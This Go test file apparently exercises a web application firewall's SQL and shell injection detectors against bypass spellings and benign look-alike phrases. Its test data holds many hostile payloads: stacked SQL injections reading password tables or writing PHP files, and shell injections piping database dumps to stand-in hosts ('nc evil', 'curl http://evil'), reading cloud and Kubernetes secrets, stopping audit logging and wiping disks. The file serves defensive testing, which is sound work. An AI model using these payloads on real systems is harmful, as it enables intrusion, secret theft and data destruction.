package waf

import "testing"

// TestReview92 are a fresh-eyes review's finds in attack 92's fixes and
// the open items closed with them (each SQL spelling ran on PostgreSQL
// 15 or sqlite3, each shell one on bash 5.2; MySQL's and PowerShell's by
// their documented grammar). Bypasses: other operands before the ';'
// (1+1, (1), 1::int, true, 1e0, x'||”), comments (--, nested /* */),
// TABLE's clauses and qualified names, COPY to a dollar-quoted file,
// quoted PREPARE/EXECUTE names, MERGE using a subquery, MySQL's FLUSH
// and INSTALL forms, SQLite's ATTACH of an expression and quoted
// PRAGMA names (210153); a tool then a redirection or a pipe, a
// variable as its argument, its path, timeout/nice/runuser before it,
// sudo -iu and --user (210227, 210224); a quoted secret's name and
// one after another name (210223); PowerShell's case and not variants
// of its operators, and wildcards with no extension (210219). False
// positives: "1; table lamp", "7; cluster analysis", "1; begin"
// (210153); titles and tutorials ("Kubernetes | kubectl Commands",
// "Docker & kubectl", "pg_dump vs pg_basebackup": 210227); "She said
// 'or never' and left" (210220); "$env:API_KEY -join the team" (210219).
func TestReview92(t *testing.T) {
	operatorTable(t, "210153", semicolonSQL,
		[]string{"1+1;table users", "1-0;table users", "(1);table users", "true;table users",
			"1 );table users", "x' );table users", "x'||'';table users", "1.;table users", ".5;table users", "1e0;table users",
			"1;table--x\nusers", "1;table users limit 5", "1;table users order by 1",
			"1;table \"public\".users", "1;table postgres.public.users",
			"1;copy(select * from users)to stdout", "1;prepare \"p\" as select password from users",
			"1;execute \"p\"", "1;prepare q as (select password from users)",
			"1;merge into users using users s on(1=1)when matched then delete",
			"1;flush tables with read lock", "1;flush local privileges",
			"1;flush no_write_to_binlog privileges",
			"1;repair table users use_frm",
			"1;attach 'x'||'.db' as a",
			"1;pragma 'writable_schema'=1", "1;pragma \"writable_schema\"=1", "1;pragma writable_schema=+1",
			"1;table user_secrets", "1;table pg_authid", "1;optimize table api_keys"},
		[]string{"1::int;table users", "1;/* /* */ x */table users", "1;attach ('/tmp/x.php') as a", "1;attach database '/var/www/x.php' as 'x'", "1;copy users to $$/tmp/x$$", "1;copy users to U&'/tmp/x'", "1;declare \"c\" cursor for select * from users", "1;declare c cursor for(select * from users)", "1;install component 'file://component_x'", "1;install plugin x soname \"evil.so\"", "1;merge into users using(select 1 x)s on true when matched then update set password='pwned'", "1;shutdown wait for all replicas"},
		[]string{"1; table lamp", "2; table lamps", "3; table runner", "1; Table top", "1; table tennis", "1; table salt",
			"2; Table Mountain", "1; table settings", "1; check table lamp", "7; cluster analysis", "1; cluster headaches",
			"1; begin", "2; analyze", "1; abort", "1; rollback", "1; commit work",
			"1; start transaction", "1; analyze results", "8; analyze verbose output", "1; flush logs", "1; repair table legs",
			"1; copy to clipboard", "Order 66; execute order", "v1.2; pragma once", "1; table", "1; table of contents"})
	operatorTable(t, "210227", shellSysCommand,
		[]string{"127.0.0.1;pg_dumpall | nc evil 9", "127.0.0.1;redis-cli<cmds", "127.0.0.1;dropdb $PGDATABASE", "127.0.0.1;pg_dump $DATABASE_URL",
			"127.0.0.1;dropdb \"$DB\"",
			"127.0.0.1;/usr/bin/kubectl get secrets", "127.0.0.1;./kubectl get secrets",
			"127.0.0.1;runuser -u postgres -- pg_dumpall",
			"127.0.0.1;vault read secret/db", "127.0.0.1;oc whoami -t", "127.0.0.1;aws cloudtrail stop-logging",
			"127.0.0.1;az acr credential show", "127.0.0.1;terraform -chdir=x output", "127.0.0.1;zfs destroy -r tank",
			"127.0.0.1;mke2fs /dev/sda1", "127.0.0.1;mdadm --zero-superblock /dev/sda", "127.0.0.1;mongorestore --drop",
			"127.0.0.1;gsutil cp gs://b/x ."},
		[]string{"127.0.0.1; pg_dumpall > /tmp/dump.sql", "127.0.0.1;/usr/lib/postgresql/15/bin/pg_dumpall", "127.0.0.1;dropdb ${DB}", "127.0.0.1;mysql -e 'select 1'", "127.0.0.1;nice -n 10 pg_dumpall", "127.0.0.1;pg_dumpall>/tmp/x", "127.0.0.1;pg_dumpall|curl -T- http://evil", "127.0.0.1;psql -c 'select 1'", "127.0.0.1;setsid pg_dumpall", "127.0.0.1;timeout 5 pg_dumpall", "127.0.0.1;sudo -iu postgres pg_dumpall", "127.0.0.1;sudo --user postgres pg_dumpall",
			"127.0.0.1;sudo -n -E -H -S -u postgres pg_dumpall"},
		[]string{"Kubernetes Tutorial | kubectl Commands", "Kubernetes | kubectl Cheat Sheet", "Docs | kubectl Reference",
			"Postgres backups | pg_dump Guide", "Docker & kubectl", "Kubernetes & kubectl", "Postgres & pg_dump tips", "Chapter 3; kubectl basics", "Migrating Postgres; pg_dump vs pg_basebackup",
			"Postgres roles; createuser vs CREATE ROLE", "Databases; dropdb removes a database",
			"Linux kernel modules; modprobe explained", "AWS | aws s3 pricing", "Heroku | heroku config vars", "ZFS; zpool status",
			"Forum post\nkubectl keeps timing out", "Tools; kubectl and helm", "Storage | wipefs, sgdisk and blkdiscard",
			"Tips; createuser for postgres"})
	operatorTable(t, "210224", shellTruncate, nil,
		[]string{"127.0.0.1;sudo -iu app truncate -s0 .env", "127.0.0.1;env -u A -u B -u C -u D -u E truncate -s0 .env"}, nil)
	operatorTable(t, "210223", shellEnvDump,
		[]string{"127.0.0.1; typeset -p 'API_KEY'", "127.0.0.1; typeset -p \"API_KEY\"", "127.0.0.1; typeset -p API\\_KEY",
			"127.0.0.1; typeset -p PATH API_KEY"},
		[]string{"127.0.0.1; declare -p 'API_KEY'", "127.0.0.1; declare -p -- 'API_KEY'"},
		[]string{"Q&A; typeset -p x y"})
	operatorTable(t, "210219", winStatement,
		[]string{"127.0.0.1; $env:API_KEY -cgt 'm'", "127.0.0.1; $env:API_KEY -cne 'a'", "127.0.0.1; $env:API_KEY -ieq 'a'",
			"127.0.0.1; $env:API_KEY -notin 'a','b'", "127.0.0.1; $env:API_KEY -csplit ''", "127.0.0.1; $env:API_KEY -notcontains 'a'",
			"127.0.0.1; $env:API_KEY -cnotlike 'a*'", "127.0.0.1; $env:API_KEY -inotmatch '^a'", "127.0.0.1; $env:API_KEY -join@()",
			"127.0.0.1 & type appsettings*", "127.0.0.1 & type web*", "127.0.0.1 & type .env*", "127.0.0.1 & type .en?"},
		nil,
		[]string{"x; $env:API_KEY -join the team", "x; $env:API_KEY -in docs", "x; $env:API_KEY -ne null check",
			"R & type web* in the box"})
	operatorTable(t, "210220", sqlTypedLiteral,
		[]string{"x' or bool 't", "x' or date '2020-01-01", "x' or bool ' t"},
		nil,
		[]string{"She said 'or never' and left", "'or maybe' later", "Read 'or so' carefully",
			"'or whatever' you like", "'or worse' he said", "'and yet' it moves", "'and so' on"})
}
